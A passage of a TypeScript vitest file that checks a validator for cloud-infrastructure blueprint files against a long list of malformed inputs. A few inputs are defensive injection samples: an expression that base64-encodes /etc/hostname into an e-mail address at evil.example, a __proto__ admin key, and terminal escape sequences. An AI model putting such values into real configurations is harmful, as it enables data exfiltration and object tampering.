import { describe, expect, it } from 'vitest';
import { lineAndColumn } from '../../lib/blueprint/format-diagnostic.js';
import { readBlueprint } from '../../lib/blueprint/read-blueprint.js';
import { KNOWN } from './known-names.js';

const LINES = [
  'version: 1',
  'name: starter',
  'region: us-east-1',
  'workloads:',
  '  - name: train',
  '    compute: { atLeast: 1000 TFLOPS, precision: bf16 }',
  '    network: { atLeast: 100 GB/s }',
  '    storage:',
  '      - { name: datasets, kind: object, capacity: 10 TB }',
];
const VALID = `${LINES.join('\n')}\n`;

/** The valid blueprint with line `number` (from 1) replaced. */
function at(number: number, ...replacement: string[]): string {
  return `${LINES.toSpliced(number - 1, 1, ...replacement).join('\n')}\n`;
}

/** The valid blueprint with lines added at its end: they start at line 10. */
function plus(...added: string[]): string {
  return `${[...LINES, ...added].join('\n')}\n`;
}

/** A blueprint with one workload of these lines, from line 6. */
function model(...lines: string[]): string {
  return `${[...LINES.slice(0, 5), ...lines.map((line) => `    ${line}`)].join('\n')}\n`;
}

/** A pool of one workload, whose share is on its third line. */
function pooled(share: string, name = 'lab'): string[] {
  return ['pools:', `  - name: ${name}`, '    workloads:', `      - ${share}`];
}

/** What is broken, the text, and every diagnostic that it draws: code, line and column. */
const BROKEN: readonly (readonly [what: string, text: string | Uint8Array, ...found: string[]])[] = [
  // The text.
  ['an empty file', '', 'file-empty 1:1'],
  ['blanks and comments only', '\n  # nothing yet\n\n', 'file-empty 1:1'],
  ['a file above the limit', `# ${'x'.repeat(1024 * 1024)}\n`, 'file-too-large 1:1'],
  ['a file of ten megabytes', `a: ${'1'.repeat(10_000_000)}`, 'file-too-large 1:1'],
  ['very many words', '- a\n'.repeat(150_000), 'file-too-large 40001:1'],
  ['a program', new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), 'file-binary 1:1'],
  ['a picture', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), 'file-binary 1:1'],
  ['text that is not UTF-8', new Uint8Array([...new TextEncoder().encode('name: caf'), 0xe9]), 'file-binary 1:1'],
  ['UTF-16', new Uint8Array([0xff, 0xfe, 0x61, 0x00]), 'file-binary 1:1'],
  ['a NUL character', at(2, 'name: star\u0000ter'), 'file-binary 2:11'],
  ['an escape character', at(2, 'name: star\u001bter'), 'file-binary 2:11'],
  [
    'an escape sequence for a terminal',
    plus('security: { waivers: [{ control: key-data, reason: "a\\x1b[2Jb" }] }'),
    'wrong-value 10:52',
    'wrong-value 10:52',
  ],
  [
    'text that is read backwards',
    plus('security: { waivers: [{ control: key-data, reason: "a\\u202eb" }] }'),
    'wrong-value 10:52',
    'wrong-value 10:52',
  ],
  [
    'a carriage return',
    plus('security: { waivers: [{ control: key-data, reason: "a\\rb" }] }'),
    'wrong-value 10:52',
    'wrong-value 10:52',
  ],
  ['a hexadecimal number', at(1, 'version: 0x1'), 'wrong-value 1:10'],
  ['an octal number', plus('limits: { nodes: 0o17 }'), 'wrong-value 10:18'],
  ...['default', 'kube-system', 'kueue-system', 'amazon-cloudwatch'].map((name): readonly [string, string, string] => [
    `a workload named like the namespace ${name}`,
    at(5, `  - name: ${name}`),
    'name-invalid 5:11',
  ]),
  // The syntax.
  ['a tab as indent', at(7, '\tnetwork: { atLeast: 100 GB/s }'), 'tab-indent 7:1'],
  [
    'tabs as indent in two lines',
    'version: 1\nworkloads:\n\t- name: a\n\t- name: b\n',
    'tab-indent 3:1',
    'tab-indent 4:1',
  ],
  ['an open bracket', at(6, '    compute: { atLeast: 1000 TFLOPS, precision: bf16'), 'syntax 6:14'],
  ['an open quote', at(2, 'name: "starter'), 'syntax 2:7'],
  ['a bracket too many', at(3, 'region: us-east-1}'), 'region-unknown 3:9'],
  ['a stray bracket in a flow map', at(6, '    compute: { atLeast: 1000 TFLOPS, precision: bf16 }}'), 'syntax 6:55'],
  ['a colon in a plain value', at(2, 'name: hall: starter'), 'syntax 2:7'],
  ['a key without its colon', at(2, 'name starter'), 'syntax 2:1'],
  ['a key out of line', at(7, '   network: { atLeast: 100 GB/s }'), 'syntax 7:1'],
  ['a reserved sign', at(2, 'name: @starter'), 'syntax 2:7'],
  ['a backtick', at(2, 'name: `starter`'), 'syntax 2:7'],
  ['a bad escape', at(2, 'name: "star\\q"'), 'syntax 2:12'],
  ['brackets without end', '['.repeat(10_000), 'syntax 1:66'],
  ['maps nested without end', 'a: {'.repeat(1000), 'syntax 1:257'],
  ['the same key twice', at(7, '    compute: { atLeast: 10 GFLOPS, precision: bf16 }'), 'duplicate-key 7:5'],
  ['the same top-level key twice', plus('region: us-east-2'), 'duplicate-key 10:1'],
  [
    'the same key twice in a flow map',
    at(9, '      - { name: datasets, kind: object, kind: object, capacity: 10 TB }'),
    'duplicate-key 9:41',
  ],
  [
    'the same key twice in JSON',
    '{\n\t"version": 1,\n\t"version": 1,\n\t"name": "ab",\n\t"region": "us-east-1",\n\t"workloads": [{ "name": "a", "nodes": {} }]\n}',
    'duplicate-key 3:2',
  ],
  ['an anchor', at(6, '    compute: &c { atLeast: 1000 TFLOPS, precision: bf16 }'), 'anchor 6:14'],
  [
    'an anchor and its alias',
    plus('limits: { nodes: &n 8 }', 'network: { zones: *n }'),
    'anchor 10:18',
    'anchor 11:19',
  ],
  ['an alias without an anchor', at(2, 'name: *nobody'), 'anchor 2:7'],
  ['a merge key', at(7, '    <<: { purpose: training }'), 'anchor 7:5'],
  ['a tag', at(2, 'name: !!str starter'), 'tag 2:7'],
  ['a tag of its own', at(6, '    compute: !rate { atLeast: 1000 TFLOPS, precision: bf16 }'), 'tag 6:14'],
  ['a directive', `%YAML 1.1\n---\n${VALID}`, 'syntax 1:1'],
  ['two documents', plus('---', 'version: 1'), 'several-documents 10:1'],
  ['a list as a key', plus('? [a, b]', ': 1'), 'wrong-type 10:3'],
  // The shape of the whole.
  ['a word', 'hello', 'wrong-type 1:1'],
  ['a list', '- version: 1\n', 'wrong-type 1:1'],
  ['an unfinished JSON file', '{"version": 1, "name": ', 'syntax 1:1'],
  ['an empty map', '{}', 'missing-key 1:1', 'missing-key 1:1', 'missing-key 1:1', 'missing-key 1:1'],
  ['no version', at(1, '# version'), 'missing-key 2:1'],
  ['a later version', at(1, 'version: 2'), 'version-unsupported 1:10'],
  ['a version in quotes', at(1, 'version: "1"'), 'version-unsupported 1:10'],
  ['no name', at(2, '# name'), 'missing-key 1:1'],
  ['no region', at(3, '# region'), 'missing-key 1:1'],
  ['no workloads', 'version: 1\nname: starter\nregion: us-east-1\n', 'missing-key 1:1'],
  ['workloads without a value', 'version: 1\nname: starter\nregion: us-east-1\nworkloads:\n', 'wrong-type 4:11'],
  ['no workload in the list', 'version: 1\nname: starter\nregion: us-east-1\nworkloads: []\n', 'out-of-range 4:1'],
  [
    'a workload that is no map',
    'version: 1\nname: starter\nregion: us-east-1\nworkloads: [train]\n',
    'wrong-type 4:13',
  ],
  ['workloads as a map', 'version: 1\nname: starter\nregion: us-east-1\nworkloads: { train: {} }\n', 'wrong-type 4:1'],
  ['a workload without a name', at(5, '  - purpose: training'), 'missing-key 5:5'],
  // Keys.
  ['a misspelt key that is required', at(2, 'nmae: starter'), 'unknown-key 2:1'],
  ['a misspelt key in a workload', at(7, '    netwrok: { atLeast: 100 GB/s }'), 'unknown-key 7:5'],
  ['a key in the wrong case', at(6, '    compute: { atleast: 1000 TFLOPS, precision: bf16 }'), 'unknown-key 6:16'],
  ['a key at the wrong place', at(7, '    cidr: 10.0.0.0/16'), 'unknown-key 7:5'],
  ['a key that is nowhere', plus('frobnicate: yes'), 'unknown-key 10:1'],
  ["a key with a prototype's name", plus('__proto__: { admin: true }'), 'unknown-key 10:1'],
  ['a number as a key', plus('42: x'), 'unknown-key 10:1'],
  ['no precision', at(6, '    compute: { atLeast: 1000 TFLOPS }'), 'missing-key 6:5'],
  ['no amount of compute', at(6, '    compute: { precision: bf16 }'), 'missing-key 6:5'],
  ['no kind of a store', at(9, '      - { name: datasets, capacity: 10 TB }'), 'missing-key 9:11'],
  ['two keys missing', at(9, '      - { name: datasets }'), 'missing-key 9:11', 'missing-key 9:11'],
  // Types.
  ['a number as a name', at(2, 'name: 42'), 'wrong-type 2:7'],
  ['a list as a name', at(2, 'name: [a]'), 'wrong-type 2:1'],
  ['nothing as a name', at(2, 'name:'), 'wrong-type 2:6'],
  ['a map as an instance type', at(7, '    types: { allow: [{ name: p5 }] }'), 'wrong-type 7:24'],
  ['a word where a list is needed', at(7, '    purchase: on-demand'), 'wrong-type 7:15'],
  ['a number of zones in quotes', at(3, 'region: us-east-1', 'network: { zones: "3" }'), 'wrong-type 4:19'],
  ['half a node', at(7, '    nodes: { atLeast: 1.5 }'), 'wrong-value 7:23'],
  ['true as a count', at(7, '    accelerators: { atLeast: true }'), 'wrong-type 7:30'],
  ['a list as a quantity', at(7, '    network: { atLeast: [100 GB/s] }'), 'wrong-type 7:16'],
  ['true as a quantity', at(7, '    network: { atLeast: true }'), 'wrong-type 7:25'],
  ['nothing as a quantity', at(7, '    network: { atLeast: }'), 'wrong-type 7:25'],
  ['a number as a tag', plus('tags: { team: 7 }'), 'wrong-type 10:15'],
  ['a Kubernetes version without quotes', plus('kubernetes: { version: 1.30 }'), 'wrong-type 10:24'],
  ['a number as a way of buying', at(7, '    purchase: [7]'), 'wrong-type 7:16'],
  // Words.
  ['an unknown platform', at(3, 'region: us-east-1', 'platform: nomad'), 'wrong-value 4:11'],
  ['an unknown purpose', at(7, '    purpose: trainning'), 'wrong-value 7:14'],
  ['an unknown precision', at(6, '    compute: { atLeast: 1000 TFLOPS, precision: bf15 }'), 'wrong-value 6:49'],
  [
    'a precision in the wrong case',
    at(6, '    compute: { atLeast: 1000 TFLOPS, precision: BF16 }'),
    'wrong-value 6:49',
  ],
  [
    'a precision without a catalog figure',
    at(6, '    compute: { atLeast: 1000 TFLOPS, precision: fp64 }'),
    'wrong-value 6:49',
  ],
  ['an unknown kind of store', at(9, '      - { name: datasets, kind: s3, capacity: 10 TB }'), 'wrong-value 9:33'],
  ['an unknown way of buying', at(7, '    purchase: [on-demand, sopt]'), 'wrong-value 7:27'],
  ['an unknown way of buying in an object', at(7, '    purchase: [{ kind: reserved-2y }]'), 'wrong-value 7:24'],
  ['an unknown vendor', at(7, '    types: { vendors: [AMD] }'), 'wrong-value 7:24'],
  ['an unknown architecture', at(7, '    types: { architectures: [amd64] }'), 'wrong-value 7:30'],
  ['an unknown kind of gateway', plus('network: { nat: none }'), 'wrong-value 10:17'],
  ['the same vendor twice', at(7, '    types: { vendors: [NVIDIA, NVIDIA] }'), 'name-duplicate 7:32'],
  // Units.
  ['no unit of data', at(9, '      - { name: datasets, kind: object, capacity: 10 }'), 'unit-missing 9:51'],
  [
    'no unit of data in a string',
    at(9, "      - { name: datasets, kind: object, capacity: '10' }"),
    'unit-missing 9:51',
  ],
  ['no unit of compute', at(6, '    compute: { atLeast: 1000, precision: bf16 }'), 'unit-missing 6:25'],
  ['no unit of bandwidth', at(7, '    network: { atLeast: 100 }'), 'unit-missing 7:25'],
  ['no unit of money', plus('limits: { monthlyCost: 10000000 }'), 'unit-missing 10:24'],
  ['no unit of an energy price', plus('objective: { energyWeight: 0.1 }'), 'unit-missing 10:28'],
  [
    'a unit of data in lower case',
    at(9, '      - { name: datasets, kind: object, capacity: 10 tb }'),
    'unit-wrong 9:51',
  ],
  ['bits for data', at(9, '      - { name: datasets, kind: object, capacity: 10 Tb }'), 'unit-wrong 9:51'],
  ['a bandwidth for data', at(9, '      - { name: datasets, kind: object, capacity: 10 TB/s }'), 'unit-wrong 9:51'],
  ['data for a bandwidth', at(7, '    network: { atLeast: 100 GB }'), 'unit-wrong 7:25'],
  ['bits or bytes a second', at(7, '    network: { atLeast: 100 gb/s }'), 'unit-wrong 7:25'],
  ['bits with a slash', at(7, '    network: { atLeast: 100 Gb/s }'), 'unit-wrong 7:25'],
  ['bytes with ps', at(7, '    network: { atLeast: 100 GBps }'), 'unit-wrong 7:25'],
  ['kilobytes in upper case', at(9, '      - { name: datasets, kind: object, capacity: 10 KB }'), 'unit-wrong 9:51'],
  [
    'a compute unit in the wrong case',
    at(6, '    compute: { atLeast: 1000 Tflops, precision: bf16 }'),
    'unit-wrong 6:25',
  ],
  ['a compute unit that is unknown', at(6, '    compute: { atLeast: 1000 GPUs, precision: bf16 }'), 'unit-wrong 6:25'],
  ['TOPS of a floating-point format', at(6, '    compute: { atLeast: 1000 TOPS, precision: bf16 }'), 'unit-wrong 6:25'],
  ['another currency', plus('limits: { monthlyCost: 10M EUR }'), 'unit-wrong 10:24'],
  ['a dollar sign', plus('limits: { monthlyCost: $10M }'), 'wrong-value 10:24'],
  ['a currency in front', plus('limits: { monthlyCost: USD 10M }'), 'wrong-value 10:24'],
  ['an energy price per kWh in the wrong case', plus('objective: { energyWeight: 0.1 usd/kwh }'), 'unit-wrong 10:28'],
  ['a percentage of a carbon price', plus('objective: { carbonPrice: 80 % }'), 'unit-wrong 10:27'],
  ['energy in joules', plus('limits: { monthlyEnergy: 50 GJ }'), 'unit-wrong 10:26'],
  ['a share in per mille', at(7, '    purchase: [{ kind: on-demand, discount: 12 ‰ }]'), 'wrong-value 7:45'],
  // Numbers.
  [
    'a comma for thousands',
    at(9, "      - { name: datasets, kind: object, capacity: '1,000 TB' }"),
    'wrong-value 9:51',
  ],
  ['a decimal comma', at(9, "      - { name: datasets, kind: object, capacity: '1,5 TB' }"), 'wrong-value 9:51'],
  ['a power with a caret', at(6, '    compute: { atLeast: 10^30 TFLOPS, precision: bf16 }'), 'wrong-value 6:25'],
  ['a power beyond reason', at(6, '    compute: { atLeast: 1e30 TFLOPS, precision: bf16 }'), 'out-of-range 6:25'],
  ['a power beyond a double', at(6, '    compute: { atLeast: 1e999 TFLOPS, precision: bf16 }'), 'out-of-range 6:25'],
  ['a power below a double', at(6, '    compute: { atLeast: 1e-999 TFLOPS, precision: bf16 }'), 'out-of-range 6:25'],
  ['not a number', at(6, '    compute: { atLeast: NaN TFLOPS, precision: bf16 }'), 'out-of-range 6:25'],
  ["YAML's not a number", at(6, '    compute: { atLeast: .nan, precision: bf16 }'), 'out-of-range 6:25'],
  ['infinity', at(6, '    compute: { atLeast: inf TFLOPS, precision: bf16 }'), 'out-of-range 6:25'],
  ['infinite nodes', at(7, '    nodes: { atLeast: .inf }'), 'out-of-range 7:23'],
  ['a negative amount', at(9, '      - { name: datasets, kind: object, capacity: -10 TB }'), 'out-of-range 9:51'],
  [
    'zero where it makes no sense',
    at(9, '      - { name: datasets, kind: object, capacity: 0 TB }'),
    'out-of-range 9:51',
  ],
  ['a sign of comparison', at(9, "      - { name: datasets, kind: object, capacity: '>= 10 TB' }"), 'wrong-value 9:51'],
  ['an arithmetic expression', at(9, '      - { name: datasets, kind: object, capacity: 2*5 TB }'), 'wrong-value 9:51'],
  ['a unit without a number', at(9, '      - { name: datasets, kind: object, capacity: TB }'), 'wrong-value 9:51'],
  ['two points in a number', at(9, '      - { name: datasets, kind: object, capacity: 1.2.3 TB }'), 'wrong-value 9:51'],
  [
    'a thousand digits',
    at(9, `      - { name: datasets, kind: object, capacity: 1${'0'.repeat(1000)} TB }`),
    'wrong-value 9:51',
  ],
  [
    'a share above one',
    at(6, '    compute: { atLeast: 1 TFLOPS, precision: bf16, utilization: 40 }'),
    'out-of-range 6:65',
  ],
  [
    'a share of zero',
    at(6, '    compute: { atLeast: 1 TFLOPS, precision: bf16, utilization: 0 % }'),
    'out-of-range 6:65',
  ],
  [
    'a share of 140 %',
    at(6, '    compute: { atLeast: 1 TFLOPS, precision: bf16, utilization: 140 % }'),
    'out-of-range 6:65',
  ],
  ['a discount of everything', at(7, '    purchase: [{ kind: on-demand, discount: 100 % }]'), 'out-of-range 7:45'],
  ['a negative energy weight', plus('objective: { energyWeight: -0.1 USD/kWh }'), 'out-of-range 10:28'],
  ['a budget of nothing', plus('limits: { monthlyCost: 0 USD }'), 'out-of-range 10:24'],
  ['no nodes', at(7, '    nodes: { atLeast: 0 }'), 'out-of-range 7:23'],
  ['negative nodes', at(7, '    nodes: { atLeast: -1 }'), 'out-of-range 7:23'],
  ['a billion nodes', at(7, '    nodes: { atLeast: 1000000000 }'), 'out-of-range 7:23'],
  ['one zone', plus('network: { zones: 1 }'), 'out-of-range 10:19'],
  ['seven zones', plus('network: { zones: 7 }'), 'out-of-range 10:19'],
  ['a block of no days', at(7, '    purchase: [{ kind: capacity-block, days: 0 }]'), 'out-of-range 7:46'],
  ['a block of a year', at(7, '    purchase: [{ kind: capacity-block, days: 365 }]'), 'out-of-range 7:46'],
  // Names.
  ['a name with capitals', at(2, 'name: Starter'), 'name-invalid 2:7'],
  ['a name with spaces', at(2, 'name: my first hall'), 'name-invalid 2:7'],
  ['a name with an underscore', at(2, 'name: my_hall'), 'name-invalid 2:7'],
  ['a name that starts with a digit', at(2, 'name: 3rd-hall'), 'name-invalid 2:7'],
  ['a name that ends with a hyphen', at(2, 'name: hall-'), 'name-invalid 2:7'],
  ['a name with two hyphens', at(2, 'name: a--b'), 'name-invalid 2:7'],
  ['a name that is too long', at(2, `name: ${'h'.repeat(25)}`), 'name-invalid 2:7'],
  ['a name that is too short', at(2, 'name: h'), 'name-invalid 2:7'],
  ['a name that is empty', at(2, "name: ''"), 'name-invalid 2:7'],
  ['a name with nothing usable in it', at(2, 'name: 数据中心'), 'name-invalid 2:7'],
  ['a name that AWS reserves', at(2, 'name: aws-hall'), 'name-invalid 2:7'],
  ['a name that S3 reserves', at(2, 'name: sthree-hall'), 'name-invalid 2:7'],
  ['a name that EC2 reserves', at(2, 'name: sg-hall'), 'name-invalid 2:7'],
  ['a workload name with a dot', at(5, '  - name: train.v2'), 'name-invalid 5:11'],
  ['a workload name that is too long', at(5, `  - name: ${'w'.repeat(21)}`), 'name-invalid 5:11'],
  ['a store name with a slash', at(9, '      - { name: a/b, kind: object, capacity: 10 TB }'), 'name-invalid 9:17'],
  ['the same workload twice', plus('  - { name: train, nodes: {} }'), 'name-duplicate 10:13'],
  [
    'the same store twice',
    at(
      9,
      '      - { name: datasets, kind: object, capacity: 10 TB }',
      '      - { name: datasets, kind: scratch, capacity: 10 TB }',
    ),
    'name-duplicate 10:17',
  ],
  [
    'stores whose joined names clash',
    'version: 1\nname: starter\nregion: us-east-1\nworkloads:\n  - { name: a-b, nodes: {}, storage: [{ name: c, kind: object, capacity: 1 TB }] }\n  - { name: a, nodes: {}, storage: [{ name: b-c, kind: object, capacity: 1 TB }] }\n',
    'name-duplicate 6:45',
  ],
  ["a workload named like another's spot nodes", plus('  - { name: train-spot, nodes: {} }'), 'name-duplicate 10:13'],
  ['an unknown region', at(3, 'region: us-east-9'), 'region-unknown 3:9'],
  ['a zone for a region', at(3, 'region: us-east-1a'), 'region-unknown 3:9'],
  ['a region of another cloud', at(3, 'region: northamerica-northeast1'), 'region-unknown 3:9'],
  ['an unknown type', at(7, '    types: { allow: [p5.48xlarg] }'), 'instance-type-unknown 7:22'],
  ['an unknown family', at(7, '    types: { deny: [p9] }'), 'instance-type-unknown 7:21'],
  ['a pattern of types', at(7, "    types: { allow: ['p5.*'] }"), 'instance-type-unknown 7:22'],
  ['a type in capitals', at(7, '    types: { allow: [P5.48XLARGE] }'), 'instance-type-unknown 7:22'],
  ['a state bucket with capitals', plus('state: { bucket: MyState }'), 'name-invalid 10:18'],
  ['a state bucket like an address', plus('state: { bucket: 10.0.0.1 }'), 'name-invalid 10:18'],
  ['a state bucket in an unknown region', plus('state: { bucket: my-state, region: mars-1 }'), 'region-unknown 10:36'],
  ['state without a bucket', plus('state: { key: a.tfstate }'), 'missing-key 10:1'],
  ['a state key of nothing', plus("state: { bucket: my-state, key: '' }"), 'wrong-value 10:33'],
  ['a state key above its folder', plus('state: { bucket: my-state, key: a/../b }'), 'wrong-value 10:33'],
  ['an expression for a state key', plus(`state: { bucket: my-state, key: '\${x}' }`), 'wrong-value 10:33'],
  [
    'an expression in an e-mail address',
    plus(`operations: { emails: ['\${base64encode(file("/etc/hostname"))}@evil.example'] }`),
    'wrong-value 10:24',
  ],
  [
    'an expression for a namespace of metrics',
    model('nodes: { atLeast: 1 }', 'purpose: inference', `scaling: { namespace: '\${f(1)}', metric: M, target: 1 }`),
    'rule 8:5',
    'wrong-value 8:27',
  ],
  ['a tag that AWS reserves', plus('tags: { aws:owner: me }'), 'name-invalid 10:9'],
  ['a tag that is ours', plus('tags: { Name: hall }'), 'name-invalid 10:9'],
  ['tags that differ only in case', plus('tags: { Team: a, team: b }'), 'name-invalid 10:18'],
  ['a tag with a forbidden sign', plus("tags: { 'team<1>': me }"), 'name-invalid 10:9'],
  ['a tag key that is too long', plus(`tags: { ${'k'.repeat(129)}: me }`), 'name-invalid 10:9'],
  ['a tag value that is too long', plus(`tags: { team: ${'v'.repeat(257)} }`), 'wrong-value 10:15'],
  [
    'too many tags',
    plus(`tags: { ${Array.from({ length: 41 }, (_, index) => `t${index}: x`).join(', ')} }`),
    'out-of-range 10:1',
  ],
  // The sense.
  [
    'a workload that asks for nothing',
    'version: 1\nname: starter\nregion: us-east-1\nworkloads:\n  - name: train\n',
    'missing-key 5:5',
  ],
  ['a ceiling below the floor', at(7, '    nodes: { atLeast: 4, atMost: 2 }'), 'contradiction 7:34'],
  [
    'nodes that always run for a part of the month',
    at(7, '    nodes: { running: all }', '    dutyCycle: 30 %'),
    'contradiction 7:23',
  ],
  [
    'a floor above the common ceiling',
    `${at(7, '    nodes: { atLeast: 4 }')}limits: { nodes: 2 }\n`,
    'contradiction 7:23',
  ],
  ['a type allowed and denied', at(7, '    types: { allow: [p5.48xlarge], deny: [p5] }'), 'contradiction 7:22'],
  ['the same way of buying twice', at(7, '    purchase: [spot, { kind: spot, overhead: 5 % }]'), 'name-duplicate 7:24'],
  ['a share of spot without the rest', at(7, '    purchase: [{ kind: spot, maxShare: 50 % }]'), 'contradiction 7:40'],
  [
    'a spot term of another way of buying',
    at(7, '    purchase: [{ kind: on-demand, maxShare: 50 % }]'),
    'contradiction 7:45',
  ],
  ['days of another way of buying', at(7, '    purchase: [{ kind: on-demand, days: 7 }]'), 'contradiction 7:41'],
  ['a block without its days', at(7, '    purchase: [capacity-block]'), 'missing-key 7:16'],
  ['a block object without its days', at(7, '    purchase: [{ kind: capacity-block }]'), 'missing-key 7:18'],
  ['a block that AWS does not sell', at(7, '    purchase: [{ kind: capacity-block, days: 15 }]'), 'wrong-value 7:46'],
  ['an organisation by its name', plus('network: { perimeter: { organization: acme } }'), 'wrong-value 10:39'],
  ['an account by its name', plus('network: { perimeter: { accounts: [acme] } }'), 'wrong-value 10:36'],
  ['a name by its address', plus('network: { perimeter: { domains: ["https://example.org"] } }'), 'wrong-value 10:35'],
  ['a bucket by its address', plus('network: { perimeter: { buckets: ["s3://data"] } }'), 'wrong-value 10:35'],
  [
    'records that are not kept',
    plus('platform: slurm', 'slurm: { accounting: off, keepRecords: 30 }'),
    'contradiction 11:40',
  ],
  [
    'shares without records',
    plus('    scheduling: { share: 2 }', 'platform: slurm', 'slurm: { accounting: off }'),
    'contradiction 12:22',
  ],
  [
    'two users of one number',
    plus('platform: slurm', 'slurm: { users: [{ name: ada, uid: 2001 }, { name: grace, uid: 2001 }] }'),
    'name-duplicate 11:64',
  ],
  [
    'one user twice',
    plus('platform: slurm', 'slurm: { users: [{ name: ada, uid: 2001 }, { name: ada, uid: 2002 }] }'),
    'name-duplicate 11:52',
  ],
  [
    'a system account as a user',
    plus('platform: slurm', 'slurm: { users: [{ name: ada, uid: 12 }] }'),
    'out-of-range 11:36',
  ],
  [
    'an image that is built from the Internet in a hall without it',
    plus('platform: slurm', 'slurm: { containers: pyxis }', 'network: { internet: none }'),
    'contradiction 11:22',
  ],
  ['a version of Slurm that PCS has not', plus('platform: slurm', 'slurm: { version: "23.11" }'), 'wrong-value 11:19'],
  ['a class that there is not', plus('platform: slurm', 'slurm: { size: huge }'), 'wrong-value 11:16'],
  ['an add-on of any version', plus('kubernetes: { addons: { coredns: latest } }'), 'wrong-value 10:34'],
  ['images of another Kubernetes', plus('kubernetes: { nodeRelease: 1.35.2-20260529 }'), 'contradiction 10:28'],
  [
    'support that ends before it does',
    plus('kubernetes: { support: { standardEnds: 2028-08-02, extendedEnds: 2027-08-02 } }'),
    'contradiction 10:66',
  ],
  [
    'a day that no month has',
    plus('kubernetes: { support: { standardEnds: 2027-08-40, extendedEnds: 2028-08-02 } }'),
    'wrong-value 10:40',
  ],
  [
    'a target group for everybody',
    plus('platform: ec2').replace('name: train', 'name: train\n    targetGroup: { healthPath: health, port: 0 }'),
    'contradiction 6:5',
    'missing-key 6:5',
    'wrong-value 6:32',
    'out-of-range 6:46',
  ],
  ['images by their day', plus('kubernetes: { nodeRelease: "20260529" }'), 'wrong-value 10:28'],
  ['a VPC range without a prefix', plus('network: { cidr: 10.0.0.0 }'), 'cidr-invalid 10:18'],
  ['a VPC range with a host address', plus('network: { cidr: 10.0.0.1/16 }'), 'cidr-invalid 10:18'],
  ['a VPC range that is public', plus('network: { cidr: 8.8.0.0/16 }'), 'cidr-invalid 10:18'],
  ['a VPC range that is too large', plus('network: { cidr: 10.0.0.0/8 }'), 'cidr-invalid 10:18'],
  ['a VPC range that is too small', plus('network: { cidr: 10.0.0.0/24 }'), 'cidr-invalid 10:18'],
  ['a VPC range with an octet of 256', plus('network: { cidr: 10.256.0.0/16 }'), 'cidr-invalid 10:18'],
  ['a VPC range with a leading zero', plus('network: { cidr: 010.0.0.0/16 }'), 'cidr-invalid 10:18'],
  ['a VPC range in IPv6', plus("network: { cidr: 'fd00::/16' }"), 'cidr-invalid 10:18'],
  [
    'an address for a range of public access',
    plus('kubernetes: { publicAccess: [203.0.113.7] }'),
    'cidr-invalid 10:30',
  ],
  ['a host address in public access', plus('kubernetes: { publicAccess: [203.0.113.7/24] }'), 'cidr-invalid 10:30'],
  ['a private range in public access', plus('kubernetes: { publicAccess: [192.168.0.0/16] }'), 'cidr-invalid 10:30'],
  ['a Kubernetes version with a patch', plus("kubernetes: { version: '1.35.2' }"), 'wrong-value 10:24'],
  ['a Kubernetes version that EKS has dropped', plus("kubernetes: { version: '1.27' }"), 'wrong-value 10:24'],
  // Models.
  [
    'two models in one workload',
    at(7, '    training: { parameters: 7B, tokens: 1T, deadline: 30 d }'),
    'contradiction 7:5',
  ],
  ['a model without its tokens', model('training: { parameters: 7B, deadline: 30 d }'), 'missing-key 6:5'],
  ['a model without a deadline', model('training: { parameters: 7B, tokens: 1T }'), 'missing-key 6:5'],
  [
    'parameters with a unit of data',
    model('training: { parameters: 70 GB, tokens: 1T, deadline: 30 d }'),
    'unit-wrong 6:29',
  ],
  ['parameters in lower case', model('training: { parameters: 70b, tokens: 1T, deadline: 30 d }'), 'unit-wrong 6:29'],
  ['a deadline without a unit', model('training: { parameters: 7B, tokens: 1T, deadline: 30 }'), 'unit-missing 6:55'],
  ['a deadline in months', model('training: { parameters: 7B, tokens: 1T, deadline: 2 months }'), 'unit-wrong 6:55'],
  [
    'a deadline of a thousand years',
    model('training: { parameters: 7B, tokens: 1T, deadline: 1000 y }'),
    'out-of-range 6:55',
  ],
  [
    'a utilization of zero',
    model('training: { parameters: 7B, tokens: 1T, deadline: 30 d, utilization: 0 }'),
    'out-of-range 6:74',
  ],
  [
    'more active parameters than there are',
    model('training: { parameters: 7B, activeParameters: 70B, tokens: 1T, deadline: 30 d }'),
    'contradiction 6:51',
  ],
  [
    'bytes of state as text',
    model('training: { parameters: 7B, tokens: 1T, deadline: 30 d, stateBytesPerParameter: 16 B }'),
    'wrong-type 6:85',
  ],
  [
    'no bytes of state',
    model('training: { parameters: 7B, tokens: 1T, deadline: 30 d, stateBytesPerParameter: 0 }'),
    'out-of-range 6:85',
  ],
  [
    'checkpoints without a file system',
    model('training: { parameters: 7B, tokens: 1T, deadline: 30 d, checkpointStall: 2 min }'),
    'contradiction 6:78',
  ],
  [
    'a dataset without its size',
    model('training: { parameters: 7B, tokens: 1T, deadline: 30 d, dataset: { epochTime: 1 d } }'),
    'contradiction 6:61',
    'missing-key 6:61',
  ],
  [
    'an unknown family with its utilization',
    model('training: { parameters: 7B, tokens: 1T, deadline: 30 d, utilizationByFamily: { p55: 45 % } }'),
    'instance-type-unknown 6:84',
  ],
  [
    'a utilization of a family without a unit that fits',
    model('training: { parameters: 7B, tokens: 1T, deadline: 30 d, utilizationByFamily: { p5: 45 GB } }'),
    'unit-wrong 6:88',
  ],
  [
    'an unknown method',
    model('fineTuning: { parameters: 7B, tokens: 1B, deadline: 1 d, method: loraa }'),
    'wrong-value 6:70',
  ],
  [
    'a full fine-tuning of a share',
    model('fineTuning: { parameters: 7B, tokens: 1B, deadline: 1 d, method: full, trainableShare: 2 % }'),
    'contradiction 6:92',
  ],
  [
    'a cache of unknown size',
    model('inference: { parameters: 7B, requestsPerSecond: 5, inputTokens: 500, outputTokens: 200 }'),
    'missing-key 6:5',
  ],
  [
    'a cache of half-known size',
    model(
      'inference: { parameters: 7B, requestsPerSecond: 5, inputTokens: 500, outputTokens: 200, layers: 32, kvHeads: 8 }',
    ),
    'missing-key 6:5',
  ],
  [
    'a cache of twice-known size',
    model(
      'inference: { parameters: 7B, requestsPerSecond: 5, inputTokens: 500, outputTokens: 200, layers: 32, kvHeads: 8, headDim: 128, kvBytesPerToken: 100 kB }',
    ),
    'contradiction 6:148',
  ],
  [
    'a context that is too short',
    model(
      'inference: { parameters: 7B, requestsPerSecond: 5, inputTokens: 500, outputTokens: 200, context: 600, kvBytesPerToken: 100 kB }',
    ),
    'contradiction 6:102',
  ],
  [
    'no requests',
    model(
      'inference: { parameters: 7B, requestsPerSecond: 0, inputTokens: 500, outputTokens: 200, kvBytesPerToken: 100 kB }',
    ),
